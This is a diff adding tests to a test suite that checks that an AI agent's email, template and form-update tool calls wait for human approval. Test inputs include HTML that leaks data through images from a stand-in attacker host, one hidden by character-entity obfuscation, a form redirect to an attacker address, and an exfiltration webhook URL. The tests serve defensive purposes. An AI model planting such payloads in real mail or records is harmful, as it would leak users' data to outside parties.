@@ -277,6 +277,38 @@ describe('approval', () => {
     assert.deepEqual([written.change, (await client.get(`${contacts}/${theirs._id}`)).status], ['deleted', 404]);
   });
 
+  it('is always needed for what is shown with pictures of other servers, whose addresses could tell them anything', async () => {
+    const to = ['ada@example.com'];
+    for (const html of [
+      '<p>Hello</p><IMG alt="" src="https://evil.example/?q=secret">',
+      '<table background=//evil.example/x><tr><td>Hello</td></tr></table>',
+      '<p style="background:u&#114;l(//evil.example/x)">Hello</p>',
+    ]) {
+      const mail = { to, subject: 'Hello', html };
+      const { toolCalls } = await calls([
+        call('sendEmail', mail),
+        call('createRecord', { model: 'communications.emails', record: { ...mail, status: 'draft' } }),
+        call('createRecord', { model: 'communications.emailTemplates', record: { name: 'Hello', html } }),
+      ]);
+      for (const { pending, error } of toolCalls) assert.ok(pending, `${html}: ${error?.message}`);
+    }
+    const plain = {
+      to,
+      subject: 'Hello',
+      html: '<p>Hello <b>Ada</b>, see <a href="https://example.com">this</a>.</p>',
+    };
+    const { toolCalls } = await calls([call('sendEmail', plain)]);
+    assert.equal(toolCalls[0].written.change, 'created', 'other mails are drafted at once');
+  });
+
+  it('is always needed for forms, which send on what visitors write', async () => {
+    const form = await admin.create('/api/forms/forms', { name: 'Contact us' });
+    const changes = { notifyEmails: ['evil@example.com'] };
+    const { toolCalls } = await calls([call('updateRecord', { model: 'forms.forms', id: form._id, changes })]);
+    assert.ok(toolCalls[0].pending, toolCalls[0].error?.message);
+    assert.equal((await admin.get(`/api/forms/forms/${form._id}`)).body.notifyEmails, null);
+  });
+
   it('is always needed for users, webhooks and settings', async () => {
     const url = 'https://example.org/exfiltrate';
     for (const [model, record] of [
